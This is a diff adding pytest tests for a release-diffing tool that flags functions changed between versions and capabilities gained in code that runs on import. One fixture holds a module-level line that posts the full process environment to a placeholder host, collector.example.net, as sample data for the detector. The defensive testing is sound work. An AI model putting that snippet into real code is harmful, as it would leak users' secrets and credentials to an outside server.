@@ -188,6 +188,79 @@ def test_changed_functions_are_named(tmp_path: Path, capsys: pytest.CaptureFixtu
     assert document["diffs"][0]["verdict"] == "ordinary"
 
 
+def test_a_multi_line_signature_does_not_end_its_function(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``) -> str:`` at the def's indent closes the signature; the body and its nested
+    function still belong to the definition, and a change there changes it."""
+    body = (
+        "def render(\n    value,\n    indent=2,\n) -> str:\n"
+        "    def inner(item):\n        return item\n\n"
+        "    return json.dumps(inner(value), indent=indent)\n"
+    )
+    old_core, new_core = CORE + "\n\n" + body, CORE + "\n\n" + body.replace("indent=indent", "indent=1")
+    old = _release(tmp_path, "1.0", {"pkg/__init__.py": INIT, "pkg/core.py": old_core})
+    new = _release(tmp_path, "1.1", {"pkg/__init__.py": INIT, "pkg/core.py": new_core})
+    _, document = _diff_json(capsys, str(old), str(new))
+    (changed,) = [f for f in document["diffs"][0]["files"]["changed"] if f["path"] == "pkg/core.py"]
+    assert changed["functions_changed"] == ["render"]
+    assert changed["functions_added"] == changed["functions_removed"] == []
+
+
+def test_code_moved_out_of_a_function_into_module_level_gains_start_up_reach(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The same lines, dedented, now run on import: the changed module is analysed, not
+    skipped as a module whose lines are all old ones."""
+    helper = (
+        "import os\nimport urllib.request\n\n\ndef report():\n"
+        "    urllib.request.urlopen('https://collector.example.net/v1', data=repr(dict(os.environ)).encode())\n"
+    )
+    moved = (
+        "import os\nimport urllib.request\n\n\ndef report():\n    pass\n\n"
+        "urllib.request.urlopen('https://collector.example.net/v1', data=repr(dict(os.environ)).encode())\n"
+    )
+    files = {"pkg/__init__.py": INIT + "import pkg.helper\n", "pkg/core.py": CORE}
+    old = _release(tmp_path, "1.0", {**files, "pkg/helper.py": helper})
+    new = _release(tmp_path, "1.1", {**files, "pkg/helper.py": moved})
+    _, document = _diff_json(capsys, str(old), str(new))
+    (diff,) = document["diffs"]
+    on_own = {c["capability"] for c in diff["capabilities"] if c["gained_in_code_that_runs_on_its_own"]}
+    assert "network" in on_own
+    assert any(r["rule_id"] == "DV022" and r["path"] == "pkg/helper.py" for r in diff["reasons"])
+
+
+def test_a_capability_in_a_module_edited_in_words_only_was_there_before(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """upload.py changes only a docstring and a comment, so neither of its versions is analysed;
+    core.py gains a network call. upload.py's old version still counts as having had it."""
+    sender = (
+        '"""Upload results."""\nimport urllib.request\n\n\ndef upload(url, data):\n'
+        "    return urllib.request.urlopen(url, data=data)\n"
+    )
+    edited = sender.replace('"""Upload results."""', '"""Upload results to a server."""').replace(
+        "    return", "    # Retries are the caller's job.\n    return"
+    )
+    fetching = (
+        CORE
+        + "\n\ndef fetch(url):\n    import urllib.request\n    return urllib.request.urlopen(url).read()\n"
+    )
+    old = _release(tmp_path, "1.0", {"pkg/__init__.py": INIT, "pkg/core.py": CORE, "pkg/upload.py": sender})
+    new = _release(
+        tmp_path, "1.1", {"pkg/__init__.py": INIT, "pkg/core.py": fetching, "pkg/upload.py": edited}
+    )
+    _, document = _diff_json(capsys, str(old), str(new))
+    (diff,) = document["diffs"]
+    assert diff["verdict"] == "ordinary"
+    network = next(c for c in diff["capabilities"] if c["capability"] == "network")
+    assert not network["gained"]
+    assert {u["path"] for u in network["new_uses"]} == {"pkg/core.py"}
+    changed = {f["path"]: f for f in diff["files"]["changed"]}
+    assert changed["pkg/upload.py"]["functions_changed"] == ["upload"]
+    assert changed["pkg/core.py"]["functions_added"] == ["fetch"]
+
+
 def test_terminal_report_is_compact_with_details_on_demand(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
